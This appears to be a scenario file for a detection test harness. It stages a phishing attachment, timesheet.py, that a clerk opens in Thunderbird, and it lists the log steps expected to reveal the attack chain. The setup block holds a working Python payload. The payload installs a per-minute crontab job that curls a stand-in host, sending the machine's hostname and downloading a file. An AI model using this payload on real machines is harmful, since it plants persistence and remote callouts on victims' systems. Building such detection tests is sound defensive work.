# Opened straight from the client: an interpreter runs on the temporary file and installs a job; the network comes later.
title="Mail client opens a Python attachment, which installs a crontab entry that calls out later"
what="The clerk opens the attachment timesheet.py in Thunderbird, which reads the mailbox over IMAP from Dovecot on the host itself, writes the attachment below its temporary folder and starts Python on it. The program writes a
small script into ~/.local/share and a crontab line. Up to a minute later cron runs the script, which fetches a file from 203.0.113.66. No common process links the two."
host=ws3.example.org user=clerk daemons="cron dovecot"

setup() {
  dovecot_config
  cat > "$base/out/timesheet.py" <<'P'
import os, subprocess
home = os.path.expanduser("~/.local/share/tsheet")
os.makedirs(home, exist_ok=True)
with open(home + "/tick", "w") as file:
    file.write("#!/bin/sh\ncurl -s -o $HOME/.local/share/tsheet/d http://drop.example.net/ts?h=$(hostname)\n")
os.chmod(home + "/tick", 0o755)
subprocess.run(["crontab", "-"], input="* * * * * $HOME/.local/share/tsheet/tick\n", text=True)
P
}
act() {
  display_up
  small_talk 3
  mail_in --from payroll@example.com --to clerk+hr@example.org --subject "Timesheet November" --source 203.0.113.25 --helo smtp.example.com --attach "$base/out/timesheet.py:text/x-python"
  wait_log 'from=<payroll@example.com>'; wait_mail clerk 1
  sleep 1
  thunderbird_as clerk open timesheet.py /usr/bin/python3.11
  wait_file /home/clerk/.local/share/tsheet/tick 20
  desktop_close
  small_talk 1
  wait_file /home/clerk/.local/share/tsheet/d 75
  crontab -u clerk -r
}
truth() {
  mail_step deliver 'to=<clerk.hr@example.org>.*status=sent' 'the message is delivered'
  file_step open 'thunderbird.* openat:write CREATE .*timesheet.py' 'the mail client writes a temporary file'
  exec_step execute 'python3.11 .*timesheet.py' 'and starts an interpreter on it'
  file_step drop 'python3.* openat:write CREATE /home/clerk/.local/share/tsheet/tick' 'which drops a script'
  exec_step job 'crontab -' 'and installs a job'
  exec_step later 'tsheet/tick' 'cron runs the script'
  net_step beacon 'curl 203.0.113.66:80' 'which calls out'
}
